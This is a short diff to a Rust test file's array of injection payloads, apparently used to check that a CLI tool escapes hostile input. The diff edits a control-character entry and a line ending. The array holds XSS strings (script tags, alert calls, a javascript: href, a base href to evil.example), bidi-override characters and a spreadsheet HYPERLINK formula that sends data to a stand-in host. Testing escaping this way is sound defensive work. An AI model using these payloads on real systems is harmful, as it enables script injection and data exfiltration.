@@ -24,7 +24,9 @@ pub(super) const PAYLOADS: [&str; 32] = [
     "&lt;script&gt;{m}&lt;/script&gt;",
     "=HYPERLINK(\"http://evil.example/?{m}\",\"点击\")",
     "\u{202e}{m}\u{202d}",
-    "\u{7}\u{8}\u{b}\u{c}\u{1b}{m}\u{7f}\u{85}",
+    // Control characters are refused at load (tests/cli/errors/hardening.rs): what remains
+    // invisible or odd is still published, escaped.
+    "\u{200b}\u{feff}{m}\u{fffd}\u{3000}",
     "</script><script>alert('{m}')</script>",
     "\u{2028}{m}\u{2029}",
     "+{m}+1",
@@ -39,7 +41,7 @@ pub(super) const PAYLOADS: [&str; 32] = [
     "<style>*{display:none}</style>{m}",
     "<base href=//evil.example/>{m}",
     "<math><mi xlink:href=\"javascript:alert('{m}')\">x</mi></math>",
-    "%3Cscript%3E{m}\r\n=1+1",
+    "%3Cscript%3E{m}\n=1+1",
     "长",
 ];
 
